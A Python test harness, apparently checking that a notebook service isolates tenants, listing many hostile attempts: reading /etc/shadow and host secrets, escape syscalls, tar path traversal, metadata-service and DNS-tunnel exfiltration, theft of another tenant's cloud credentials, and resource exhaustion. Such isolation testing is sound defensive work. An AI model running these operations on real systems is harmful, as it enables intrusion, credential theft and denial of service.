"""What a hostile notebook tries. Each attempt returns what it got hold of; nothing, or an error that refuses, is a
refusal. Any other error is taken for a success: an attempt that can't be made shows nothing.

The attacker is given more than a real one would know: where the host keeps its secrets, and what the victim's
session, token and files are called. No attempt would harm a host that let it through: what could is opened and not
written, or called so that the kernel finds fault with it only after it has looked at the caller's rights.
"""

import ctypes
import errno
import glob
import io
import json
import mmap
import os
import pathlib
import platform
import resource
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

import boto3
import botocore.config
import botocore.exceptions
import pyspark.errors

ATTEMPTS = {}
LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": dict(
        ptrace=101, process_vm_readv=310, mount=165, umount2=166, pivot_root=155, chroot=161, unshare=272, setns=308, bpf=321,
        userfaultfd=323, perf_event_open=298, keyctl=250, add_key=248, kexec_load=246, init_module=175, open_by_handle_at=304,
        personality=135, swapon=167, reboot=169, syslog=103, kcmp=312, acct=163, clone=56, ioctl=16, sethostname=170,
        inotify_init1=294,
    ),
    "aarch64": dict(
        ptrace=117, process_vm_readv=270, mount=40, umount2=39, pivot_root=41, chroot=51, unshare=97, setns=268, bpf=280,
        userfaultfd=282, perf_event_open=241, keyctl=219, add_key=217, kexec_load=104, init_module=105, open_by_handle_at=265,
        personality=92, swapon=224, reboot=142, syslog=116, kcmp=272, acct=89, clone=220, ioctl=29, sethostname=161,
        inotify_init1=26,
    ),
}[platform.machine()] | dict(
    pidfd_getfd=438, move_mount=429, open_tree=428, fsopen=430, io_uring_setup=425, clone3=435,
)
# How AWS's services refuse, or say that what may not be seen isn't there.
DENIALS = {"AccessDenied", "AccessDeniedException", "EntityNotFoundException"}


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def system(name, *arguments):
    """What the kernel made of the call. That it is refused, or unknown, is an exception."""
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *[a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments])
    if result >= 0:
        return f"{name} answered {result}"
    number = ctypes.get_errno()
    if number in (errno.EPERM, errno.ENOSYS):
        raise PermissionError(number, os.strerror(number))
    return f"{name} reached the kernel: {errno.errorcode[number]}"


def is_refusal(error):
    """Whether the error says no, and not that the attempt was made badly or that nobody answered."""
    if isinstance(error, urllib.error.HTTPError):
        return error.code in (401, 403)
    if isinstance(error, botocore.exceptions.ClientError):
        return error.response["Error"]["Code"] in DENIALS
    return isinstance(error, (OSError, pyspark.errors.PySparkException)) and not isinstance(error, TimeoutError)


def run_attempt(name, facts):
    try:
        got = ATTEMPTS[name](facts)
        return json.dumps({"got": repr(got)[:300]} if got else {"refused": "nothing there"})
    except BaseException as error:
        text = f"{type(error).__name__}: {error}"[:300]
        return json.dumps({"refused": text} if is_refusal(error) else {"got": f"nothing, but no refusal: {text}"})


# Files of the host.


@attempt
def read_the_daemons_state(facts):
    # The package that sessions run is shown, read-only; nothing beside it.
    return [name for name in os.listdir(facts["state"]) if name != "packages"]


@attempt
def read_a_secret_of_the_host(facts):
    return pathlib.Path(facts["secret"]).read_text()


@attempt
def read_the_password_hashes(facts):
    return pathlib.Path("/etc/shadow").read_text()


def beside_what_is_shown(folder):
    """What is in a folder and below, but for what sessions are shown: their home, their Python and its packages."""
    shown = {sys.prefix, sys.exec_prefix, sys.base_prefix, sys.base_exec_prefix, os.environ["HOME"], *os.environ["PYTHONPATH"].split(":")}
    shown = {pathlib.Path(path) for path in shown if path}
    found, folders = [], [pathlib.Path(folder)]
    while folders:
        for path in folders.pop().iterdir():
            if any(path in one.parents for one in shown):
                folders.append(path)
            elif path not in shown:
                found.append(str(path))
    return found


@attempt
def read_roots_home(facts):
    return beside_what_is_shown("/root")


@attempt
def read_the_homes_of_people(facts):
    return beside_what_is_shown("/home")


@attempt
def read_the_hosts_configuration(facts):
    return [name for name in ("ssh", "sudoers", "fstab", "crontab", "machine-id") if pathlib.Path("/etc", name).exists()]


@attempt
def reach_the_host_through_the_first_process(facts):
    return os.listdir("/proc/1/root/")


@attempt
def read_the_first_processs_environment(facts):
    return pathlib.Path("/proc/1/environ").read_bytes()


@attempt
def read_the_first_processs_memory(facts):
    with open("/proc/1/mem", "rb") as memory:
        return memory.read(1)


@attempt
def list_descriptors_of_the_first_process(facts):
    return [os.readlink(f"/proc/1/fd/{fd}") for fd in os.listdir("/proc/1/fd")]


@attempt
def find_other_peoples_processes(facts):
    mine = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            line = pathlib.Path("/proc", entry, "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            mine.add(line)
    return [line for line in mine if "lakeward demo" in line or "lakeward serve" in line or "postgres" in line or "cargo" in line]


@attempt
def see_the_victims_process(facts):
    return pathlib.Path(f"/proc/{facts['victim_pid']}/status").read_text()


@attempt
def write_into_the_system(facts):
    for path in ("/usr/lakeward-evil", "/usr/bin/lakeward-evil", "/usr/lib/lakeward-evil"):
        try:
            open(path, "x").close()
            return path
        except OSError as error:
            assert error.errno != errno.EEXIST, path
    open("/usr/bin/env", "r+b").close()
    return "may write"


@attempt
def write_into_the_runtime(facts):
    pathlib.Path(os.path.dirname(boto3.__file__), "lakeward_evil.py").write_text("")
    return "wrote"


@attempt
def write_into_the_sessions_package(facts):
    folder = next(path for path in os.environ["PYTHONPATH"].split(":") if path)
    pathlib.Path(folder, "lakeward_session", "lakeward_evil.py").write_text("")
    return "wrote"


@attempt
def write_beside_the_root(facts):
    pathlib.Path("/lakeward-evil").write_text("")
    return "wrote"


@attempt
def follow_a_symbolic_link_out(facts):
    link = pathlib.Path(os.environ["HOME"], "link")
    link.unlink(missing_ok=True)
    link.symlink_to(facts["secret"])
    return link.read_text()


@attempt
def unpack_an_archive_over_the_system(facts):
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for name in ("../../../../usr/lib/lakeward-unpacked", "/etc/lakeward-unpacked"):
            member = tarfile.TarInfo(name)
            member.size = 1
            archive.addfile(member, io.BytesIO(b"x"))
        link = tarfile.TarInfo("out")
        link.type, link.linkname = tarfile.SYMTYPE, os.path.dirname(facts["secret"])
        archive.addfile(link)
    data.seek(0)
    folder = tempfile.mkdtemp()
    with tarfile.open(fileobj=data) as archive:
        for member in archive.getmembers():
            try:
                archive.extract(member, folder, filter="fully_trusted")
            except OSError:
                pass
    unpacked = [path for path in ("/usr/lib/lakeward-unpacked", "/etc/lakeward-unpacked") if os.path.exists(path)]
    return unpacked or os.path.exists(folder + "/out/secret")


@attempt
def make_a_hard_link_to_a_system_file(facts):
    os.link("/etc/passwd", os.environ["HOME"] + "/passwd")
    open(os.environ["HOME"] + "/passwd", "r+b").close()
    return "may write"


@attempt
def open_the_disk(facts):
    return [name for name in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmem", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse") if os.path.exists(name)]


@attempt
def make_a_device(facts):
    path = os.environ["HOME"] + "/disk"
    os.mknod(path, 0o600 | 0o060000, os.makedev(254, 0))
    return open(path, "rb").read(16)


@attempt
def open_a_file_by_its_handle(facts):
    return system("open_by_handle_at", -100, struct.pack("IIQ", 8, 1, 2), 0)


@attempt
def change_the_kernels_settings(facts):
    open("/proc/sys/kernel/core_pattern", "r+b").close()
    return "may write"


@attempt
def press_the_magic_key(facts):
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "may write"


@attempt
def read_the_kernels_memory(facts):
    with open("/proc/kcore", "rb") as file:
        return file.read(4)


@attempt
def change_the_control_groups(facts):
    found = glob.glob("/sys/fs/cgroup/*")
    return found or [path for path in glob.glob("/proc/self/task/*/cgroup") if not at_the_top(path)]


def at_the_top(path):
    """Whether a process sees no group above its own."""
    return all(line.endswith(":/") for line in pathlib.Path(path).read_text().splitlines())


# The kernel.


@attempt
def trace_the_first_process(facts):
    return system("ptrace", 16, 1, 0, 0)


@attempt
def trace_the_engine(facts):
    child = subprocess.Popen(["sleep", "5"])
    try:
        return system("ptrace", 16, child.pid, 0, 0)
    finally:
        child.kill()
        child.wait()


@attempt
def read_another_processs_memory(facts):
    return system("process_vm_readv", 1, 0, 0, 0, 0, 0)


@attempt
def take_a_descriptor_of_the_first_process(facts):
    pidfd = os.pidfd_open(1)
    return system("pidfd_getfd", pidfd, 0, 0)


@attempt
def mount_something(facts):
    return system("mount", b"none", os.environ["HOME"].encode(), b"tmpfs", 0, 0)


@attempt
def make_the_root_writable(facts):
    return system("mount", b"none", b"/", b"none", 32 | 4096, 0)


@attempt
def uncover_what_is_masked(facts):
    return system("umount2", b"/proc/kcore", 2)


@attempt
def use_the_new_ways_of_mounting(facts):
    for call in (lambda: system("fsopen", b"tmpfs", 0), lambda: system("open_tree", -100, b"/", 1), lambda: system("move_mount", -100, b"/", -100, b"/tmp", 0)):
        try:
            return call()
        except OSError:
            pass


@attempt
def change_the_root(facts):
    return system("chroot", b"/tmp")


@attempt
def pivot_the_root(facts):
    return system("pivot_root", b"/nowhere", b"/nowhere")


@attempt
def make_a_user_namespace(facts):
    return system("unshare", 0x10000000)


@attempt
def make_namespaces_with_clone(facts):
    return of_the_parent(system("clone", 0x10000000 | 0x20000 | signal.SIGCHLD, 0, 0, 0, 0))


def of_the_parent(answer):
    """The answer of a call that makes a process, which ends at once."""
    if answer.endswith(" answered 0"):
        os._exit(0)
    return answer


@attempt
def make_namespaces_with_clone3(facts):
    return of_the_parent(system("clone3", struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64))


@attempt
def join_the_hosts_namespaces(facts):
    descriptor = os.open("/proc/1/ns/net", os.O_RDONLY)
    return system("setns", descriptor, 0)


@attempt
def load_a_kernel_program(facts):
    return system("bpf", 5, b"\0" * 128, 128)


@attempt
def load_a_module(facts):
    return system("init_module", b"x", 1, b"")


@attempt
def use_the_asynchronous_ring(facts):
    return system("io_uring_setup", 8, b"\0" * 120)


@attempt
def handle_page_faults(facts):
    return system("userfaultfd", 1)


@attempt
def watch_the_processor(facts):
    return system("perf_event_open", struct.pack("II", 1, 112) + b"\0" * 104, -1, 0, -1, 0)


@attempt
def read_the_kernels_keys(facts):
    return system("keyctl", 0, -3, 1)


@attempt
def put_a_key_into_the_kernel(facts):
    return system("add_key", b"user", b"x", b"y", 1, -3)


@attempt
def read_the_kernels_log(facts):
    return system("syslog", 3, b"\0" * 64, 64)


@attempt
def restart_the_machine(facts):
    # A command that there isn't.
    return system("reboot", 0xFEE1DEAD, 672274793, 0x1A4E, 0)


@attempt
def start_another_kernel(facts):
    # A flag that there isn't.
    return system("kexec_load", 0, 0, 0, 0x8000)


@attempt
def swap_to_a_file(facts):
    return system("swapon", b"/tmp/x", 0)


@attempt
def write_accounts_of_processes(facts):
    return system("acct", b"/tmp/x")


@attempt
def compare_kernel_objects(facts):
    return system("kcmp", 1, os.getpid(), 0, 0, 0)


@attempt
def turn_address_randomisation_off(facts):
    return system("personality", 0x0040000)


@attempt
def use_a_foreign_system_call_interface(facts):
    if platform.machine() != "x86_64":
        return None
    result = LIBC.syscall(ctypes.c_long(0x40000000 + 39))
    return result if result > 0 else None


@attempt
def type_into_a_terminal(facts):
    return system("ioctl", 0, 0x5412, b"x")


@attempt
def set_the_hosts_name(facts):
    name = socket.gethostname().encode()
    return system("sethostname", name, len(name))


@attempt
def set_the_clock(facts):
    return time.clock_settime(time.CLOCK_REALTIME, time.time()) or "set"


@attempt
def watch_who_uses_the_systems_programs(facts):
    return system("inotify_init1", 0)


# Rights.


@attempt
def become_root(facts):
    os.setuid(0)
    return os.getuid() == 0


@attempt
def become_root_by_a_program(facts):
    for program in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"], ["newgrp"]):
        if shutil.which(program[0]):
            ended = subprocess.run(program, capture_output=True, text=True, timeout=10, stdin=subprocess.DEVNULL)
            if ended.stdout.strip() == "0":
                return program


@attempt
def have_capabilities(facts):
    status = pathlib.Path("/proc/self/status").read_text()
    held = {line.split(":")[0]: int(line.split()[1], 16) for line in status.splitlines() if line.startswith(("CapEff", "CapPrm", "CapInh", "CapAmb"))}
    return [name for name, bits in held.items() if bits]


@attempt
def regain_rights_by_exec(facts):
    status = subprocess.run(["cat", "/proc/self/status"], capture_output=True, text=True, check=True).stdout
    facts_of = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    return facts_of["NoNewPrivs"] != "1" or facts_of["Seccomp"] != "2"


@attempt
def raise_a_limit(facts):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        return "raised"
    except ValueError as error:
        # Python's words for EPERM.
        return None if "not allowed" in str(error) else error


@attempt
def drop_a_core(facts):
    child = subprocess.run([sys.executable, "-c", "import os; os.abort()"], cwd=os.environ["HOME"], capture_output=True)
    return glob.glob(os.environ["HOME"] + "/core*") if child.returncode else "lived"


@attempt
def signal_processes_of_the_host(facts):
    for pid in (facts["victim_pid"], facts["daemon_pid"]):
        try:
            os.kill(pid, 0)
            if pathlib.Path(f"/proc/{pid}/cmdline").exists() and pid != os.getpid():
                return pid
        except ProcessLookupError:
            pass


@attempt
def kill_the_first_process(facts):
    os.kill(1, signal.SIGKILL)
    time.sleep(0.2)
    return not os.path.exists("/proc/1")


# Other sessions.


@attempt
def find_the_victims_files(facts):
    places = ["/tmp", "/var/tmp", "/dev/shm", "/home", "/run"]
    return [found for place in places for found in glob.glob(f"{place}/**/{facts['victim_file']}", recursive=True)]


@attempt
def read_the_victims_shared_memory(facts):
    key, flags = ctypes.c_int(facts["victim_key"]), ctypes.c_int(0)
    identifier = LIBC.shmget(key, ctypes.c_size_t(0), flags)
    return identifier if identifier >= 0 else None


@attempt
def connect_to_the_victims_abstract_socket(facts):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + facts["victim_socket"])
        return client.recv(16)


@attempt
def connect_to_the_victims_port(facts):
    with socket.create_connection(("127.0.0.1", facts["victim_port"]), timeout=2) as client:
        return client.recv(16)


@attempt
def connect_to_the_victims_engine(facts):
    with socket.create_connection(("127.0.0.1", facts["victim_engine"]), timeout=2):
        return "connected"


# The network.


@attempt
def scan_the_loopback_device(facts):
    mine = {int(urllib.parse.urlsplit(os.environ[name]).port) for name in ("AWS_ENDPOINT_URL", "AWS_CONTAINER_CREDENTIALS_FULL_URI")}
    mine |= own_listeners()
    found = []
    for port in range(1, 65536):
        with socket.socket() as probe:
            # A probe that was given the very port it tries has reached itself.
            if probe.connect_ex(("127.0.0.1", port)) == 0 and port not in mine and probe.getsockname() != probe.getpeername():
                found.append(port)
    return found


def own_listeners():
    """Ports that processes of this session listen on, by the kernel's table of this network namespace."""
    ports = set()
    for line in pathlib.Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":
            ports.add((int(fields[1].split(":")[1], 16), fields[7]))
    return {port for port, uid in ports if uid == str(os.getuid())}


@attempt
def connect_to_a_service_of_the_host(facts):
    with socket.create_connection(("127.0.0.1", facts["host_port"]), timeout=2):
        return "connected"


@attempt
def connect_to_the_daemons_other_ports(facts):
    found = []
    for port in facts["daemon_ports"]:
        with socket.socket() as probe:
            probe.settimeout(2)
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                found.append(port)
    return found


@attempt
def connect_to_the_clusters_livy(facts):
    with socket.create_connection((facts["cluster_address"], 8998), timeout=2):
        return "connected"


@attempt
def ask_the_metadata_service(facts):
    return urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=2).read()


@attempt
def connect_to_the_internet(facts):
    with socket.create_connection(("1.1.1.1", 443), timeout=2):
        return "connected"


@attempt
def tunnel_through_the_name_service(facts):
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x10\x00\x01"
    for server in ("127.0.0.1", "127.0.0.53", "1.1.1.1", "8.8.8.8", "169.254.169.253"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.5)
            try:
                client.sendto(query, (server, 53))
                return client.recv(64)
            except OSError:
                pass
    return socket.getaddrinfo("example.com", 443)


@attempt
def reach_the_internet_by_ipv6(facts):
    with socket.create_connection(("2606:4700:4700::1111", 443), timeout=2):
        return "connected"


@attempt
def open_a_raw_socket(facts):
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt
def open_a_packet_socket(facts):
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)


@attempt
def open_a_socket_to_the_hypervisor(facts):
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attempt
def open_the_kernels_cryptography(facts):
    return socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)


@attempt
def have_the_kernel_load_a_protocol(facts):
    # SCTP, DCCP, Multipath TCP, UDP-Lite.
    for kind, protocol in ((socket.SOCK_STREAM, 132), (6, 0), (socket.SOCK_STREAM, 262), (socket.SOCK_DGRAM, 136)):
        try:
            return socket.socket(socket.AF_INET, kind, protocol)
        except OSError as error:
            if error.errno != errno.EPERM:
                return f"the kernel looked for {protocol}: {error}"


@attempt
def hold_a_socket_of_the_hosts_network(facts):
    def network(held):
        # SO_NETNS_COOKIE.
        return held.getsockopt(socket.SOL_SOCKET, 71, 8)

    with socket.socket() as own:
        mine = network(own)
    found = []
    for entry in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{entry}").startswith("socket:"):
                with socket.socket(fileno=os.dup(int(entry))) as held:
                    found += [entry] * (network(held) != mine)
        except FileNotFoundError:
            # The listing's own descriptor.
            pass
    return found


@attempt
def add_a_route(facts):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        # RTM_NEWLINK: another device.
        name, link = b"evil0\0\0\0", b"dummy\0\0\0"
        body = struct.pack("BBHiII", 0, 0, 0, 0, 1, 1) + struct.pack("HH", 10, 3) + name
        body += struct.pack("HH", 16, 18) + struct.pack("HH", 10, 1) + link
        netlink.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        answer = netlink.recv(4096)
        code = -struct.unpack("i", answer[16:20])[0]
        return None if code == errno.EPERM else f"the kernel answered {code}"


@attempt
def listen_where_others_could_come(facts):
    devices = [line.split(":")[0].strip() for line in pathlib.Path("/proc/net/dev").read_text().splitlines()[2:]]
    return [name for name in devices if name != "lo"]


# Keys and services.


def ask_for_keys(key, token):
    url = urllib.parse.urlsplit(os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"])
    path = url.path.rsplit("/", 1)[0] + "/" + key
    request = urllib.request.Request(f"{url.scheme}://{url.netloc}{path}", headers={"Authorization": token})
    return urllib.request.urlopen(request, timeout=5).read()


def own_token():
    return pathlib.Path(os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE"]).read_text()


@attempt
def take_the_victims_keys_with_its_token(facts):
    return ask_for_keys(facts["victim_key_name"], facts["victim_token"])


@attempt
def take_the_victims_keys_with_ones_own_token(facts):
    got = ask_for_keys(facts["victim_key_name"], own_token())
    return got if facts["victim_role"].encode() in got else None


@attempt
def take_ones_own_keys_with_the_victims_token(facts):
    own = os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"].rsplit("/", 1)[1]
    return ask_for_keys(own, facts["victim_token"])


@attempt
def take_keys_without_a_token(facts):
    return ask_for_keys(facts["victim_key_name"], "")


def client(service):
    once = botocore.config.Config(retries={"total_max_attempts": 1}, connect_timeout=5, read_timeout=20)
    return boto3.client(service, config=once)


@attempt
def list_the_users(facts):
    return client("iam").list_users()


@attempt
def make_an_access_key(facts):
    return client("iam").create_access_key(UserName=facts["admin_user"])


@attempt
def open_the_victims_cluster_session(facts):
    return client("emr").get_cluster_session_credentials(ClusterId=facts["cluster_id"], ExecutionRoleArn=facts["victim_role"])


@attempt
def assume_the_victims_role(facts):
    return client("sts").assume_role(RoleArn=facts["victim_role"], RoleSessionName="evil")


@attempt
def read_the_audit_trail(facts):
    return client("cloudtrail").lookup_events()


@attempt
def list_the_organization(facts):
    return client("organizations").list_accounts()


@attempt
def grant_oneself_the_lake(facts):
    me = client("sts").get_caller_identity()["Arn"].split(":assumed-role/")[1].split("/")[0]
    return client("lakeformation").grant_permissions(
        Principal={"DataLakePrincipalIdentifier": f"arn:aws:iam::{facts['account']}:role/{me}"},
        Resource={"Table": {"DatabaseName": "tpc", "Name": facts["hidden_table"]}},
        Permissions=["SELECT"],
    )


@attempt
def describe_a_hidden_table(facts):
    return client("glue").get_table(DatabaseName="tpc", Name=facts["hidden_table"])


@attempt
def read_a_hidden_tables_file(facts):
    return client("s3").get_object(Bucket=facts["bucket"], Key=facts["hidden_key"])["Body"].read(4)


@attempt
def list_the_lakes_bucket(facts):
    return client("s3").list_objects_v2(Bucket=facts["bucket"]).get("Contents")


@attempt
def write_over_a_tables_file(facts):
    return client("s3").put_object(Bucket=facts["bucket"], Key=facts["hidden_key"], Body=b"x")


@attempt
def call_without_a_signature(facts):
    context = ssl.create_default_context(cafile=os.environ["AWS_CA_BUNDLE"])
    url = f"{os.environ['AWS_ENDPOINT_URL']}/{facts['bucket']}/{facts['hidden_key']}"
    return urllib.request.urlopen(url, timeout=5, context=context).read(4)


@attempt
def ask_the_token_service_in_another_ones_name(facts):
    """What needs no signature, with one that claims to be for a service that clusters allow."""
    role = urllib.parse.quote(facts["victim_role"])
    form = f"Action=AssumeRoleWithWebIdentity&Version=2011-06-15&RoleArn={role}&RoleSessionName=evil&WebIdentityToken=a.b.c"
    scope = f"AKIAXXXXXXXXXXXXXXXX/20260101/{os.environ['AWS_REGION']}/glue/aws4_request"
    headers = {
        "Authorization": f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host;x-amz-date, Signature={'0' * 64}",
        "X-Amz-Date": "20260101T000000Z",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    request = urllib.request.Request(os.environ["AWS_ENDPOINT_URL"] + "/", data=form.encode(), headers=headers)
    context = ssl.create_default_context(cafile=os.environ["AWS_CA_BUNDLE"])
    try:
        answer = urllib.request.urlopen(request, timeout=5, context=context).read()
    except urllib.error.HTTPError as error:
        answer = error.read()
    assert answer, "no answer"
    return answer if b"sts.amazonaws.com" in answer else None


@attempt
def tunnel_through_a_proxy(facts):
    for port in {urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL"]).port, urllib.parse.urlsplit(os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"]).port}:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as proxy:
            proxy.settimeout(2)
            try:
                proxy.sendall(f"CONNECT 127.0.0.1:{facts['host_port']} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                if b" 200 " in proxy.recv(64):
                    return port
            except OSError:
                pass


# The engine.


def engine():
    return sys.modules["__main__"].__dict__["spark"]


def read_with(query, secret, own):
    """What a query finds at a secret place, once it has found something at a place of one's own."""
    assert query(own), "the attempt finds not even what is its own"
    return [str(row) for row in query(secret)]


def own_text():
    path = pathlib.Path(os.environ["HOME"], "own.txt")
    path.write_text("mine\n")
    return str(path)


@attempt
def read_a_secret_through_the_engine(facts):
    return read_with(lambda path: engine().read.text(path).collect(), facts["secret"], own_text())


@attempt
def read_a_secret_through_the_engines_sql(facts):
    def query(path):
        engine().sql(f"create or replace temporary view secret using text options (path '{path}')")
        return engine().sql("select * from secret").collect()

    return read_with(query, facts["secret"], own_text())


@attempt
def read_the_lakes_bytes_through_the_engine(facts):
    own = os.environ["HOME"] + "/own.parquet"
    engine().range(1).write.mode("overwrite").parquet(own)
    return read_with(lambda path: engine().read.parquet(path).collect(), facts["state"] + "/objects", own)


@attempt
def read_the_daemons_state_in_a_function_of_the_engine(facts):
    from pyspark.sql.functions import udf

    places = [facts["state"] + "/state.db", facts["state"] + "/objects", facts["secret"], "/etc/shadow"]
    look = udf(lambda _: str([os.path.exists(place) for place in places]))
    seen = engine().range(1).select(look("id")).collect()[0][0]
    return None if seen == str([False] * len(places)) else seen


@attempt
def write_into_the_system_through_the_engine(facts):
    def write(path):
        engine().range(1).write.mode("overwrite").parquet(path)
        return os.path.exists(path)

    assert write(os.environ["HOME"] + "/own.parquet"), "the attempt writes not even at home"
    return write("/usr/lakeward-evil-table")


@attempt
def read_a_hidden_table_through_the_engine(facts):
    return engine().sql(f"select * from tpc.{facts['hidden_table']} limit 1").collect()


# Room.


@attempt
def fill_the_disk(facts):
    written = 0
    path = os.environ["HOME"] + "/full"
    try:
        with open(path, "wb") as file:
            while written < 1 << 30:
                written += file.write(b"\0" * (1 << 20))
        return f"{written} bytes"
    finally:
        os.unlink(path)


@attempt
def make_endless_files(facts):
    folder = tempfile.mkdtemp()
    try:
        for number in range(1_000_000):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
        return "as many as wanted"
    finally:
        shutil.rmtree(folder)


@attempt
def open_endless_descriptors(facts):
    held = []
    try:
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
        return len(held)
    finally:
        for descriptor in held:
            os.close(descriptor)


@attempt
def start_endless_processes(facts):
    children = []
    try:
        while len(children) < 2_000:
            children.append(subprocess.Popen(["sleep", "60"]))
        return len(children)
    finally:
        for child in children:
            child.kill()
        for child in children:
            child.wait()


@attempt
def start_endless_threads(facts):
    stop, count = threading.Event(), 0
    try:
        while count < 2_000:
            threading.Thread(target=stop.wait, daemon=True).start()
            count += 1
        return count
    except RuntimeError as error:
        # Python's words for EAGAIN.
        return None if "can't start new thread" in str(error) else error
    finally:
        stop.set()


@attempt
def lock_memory(facts):
    area = mmap.mmap(-1, 64 << 20)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    return "locked" if LIBC.mlock(ctypes.c_void_p(address), ctypes.c_size_t(64 << 20)) == 0 else None
